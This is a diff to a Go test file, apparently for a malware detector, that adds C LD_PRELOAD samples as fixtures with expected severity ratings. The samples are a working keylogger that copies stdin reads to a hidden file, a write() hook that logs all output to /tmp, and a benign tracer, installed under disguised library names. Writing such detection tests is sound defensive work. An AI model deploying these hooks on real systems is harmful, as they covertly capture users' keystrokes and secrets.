@@ -227,6 +227,52 @@ FILE *fopen(const char *p, const char *m) {
 `
 )
 
+// Input loggers: a hook on read or write that keeps what passes through in a file of its
+// own, kept hidden or in a temporary place; and an interposer logging to /var/log as a
+// tracing tool does.
+const (
+	cKeyLogger = `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <stdio.h>
+#include <unistd.h>
+static ssize_t (*real_read)(int, void *, size_t);
+ssize_t read(int fd, void *buf, size_t n) {
+	if (!real_read) real_read = dlsym(RTLD_NEXT, "read");
+	ssize_t r = real_read(fd, buf, n);
+	if (fd == 0 && r > 0) {
+		FILE *f = fopen("/usr/share/.cache/.k", "a");
+		if (f) { fwrite(buf, 1, r, f); fclose(f); }
+	}
+	return r;
+}
+`
+	cWriteLogger = `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <unistd.h>
+static ssize_t (*real_write)(int, const void *, size_t);
+ssize_t write(int fd, const void *buf, size_t n) {
+	if (!real_write) real_write = dlsym(RTLD_NEXT, "write");
+	int o = open("/tmp/sess.log", O_WRONLY | O_APPEND | O_CREAT, 0600);
+	if (o >= 0) { dprintf(o, "%d:%.*s\n", fd, (int)n, (const char *)buf); close(o); }
+	return real_write(fd, buf, n);
+}
+`
+	cTraceLogger = `#define _GNU_SOURCE
+#include <dlfcn.h>
+#include <stdio.h>
+#include <unistd.h>
+static ssize_t (*real_write)(int, const void *, size_t);
+ssize_t write(int fd, const void *buf, size_t n) {
+	if (!real_write) real_write = dlsym(RTLD_NEXT, "write");
+	FILE *f = fopen("/var/log/iotrace.log", "a");
+	if (f) { fprintf(f, "write %d %zu\n", fd, n); fclose(f); }
+	return real_write(fd, buf, n);
+}
+`
+)
+
 func build(t *testing.T, lang, src string, args ...string) []byte {
 	t.Helper()
 	dir := t.TempDir()
@@ -305,6 +351,9 @@ func TestCompiledBehaviour(t *testing.T) {
 		{"pty preload backdoor", "c", cPtyBackdoor, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libcache.so", "STRATA-LP-005/critical STRATA-LP-006/high"},
 		{"readdir hider", "c", cHider, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libhide.so", "STRATA-LP-005/high STRATA-LP-006/high"},
 		{"fopen interposer", "c", cInterposer, []string{"-shared", "-fPIC"}, "/usr/lib/libtrace.so", "STRATA-LP-005/low"},
+		{"read logger to a hidden file", "c", cKeyLogger, []string{"-shared", "-fPIC", "-O2"}, "/usr/lib/x86_64-linux-gnu/libkbd.so", "STRATA-LP-005/high"},
+		{"write logger to /tmp", "c", cWriteLogger, []string{"-shared", "-fPIC", "-O0"}, "/usr/local/lib/libsess.so", "STRATA-LP-005/high"},
+		{"write tracer logging to /var/log", "c", cTraceLogger, []string{"-shared", "-fPIC"}, "/usr/lib/libiotrace.so", "STRATA-LP-005/low"},
 		{"rust shell on the connection", "rust", rustFdShell, []string{"-O"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
 		{"stripped rust shell on the connection", "rust", rustFdShell, []string{"-O", "-C", "strip=symbols"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
 		{"rust command loop", "rust", rustCommandLoop, []string{"-O", "-C", "strip=symbols"}, "/opt/agent/agent", "STRATA-RS-021/high"},
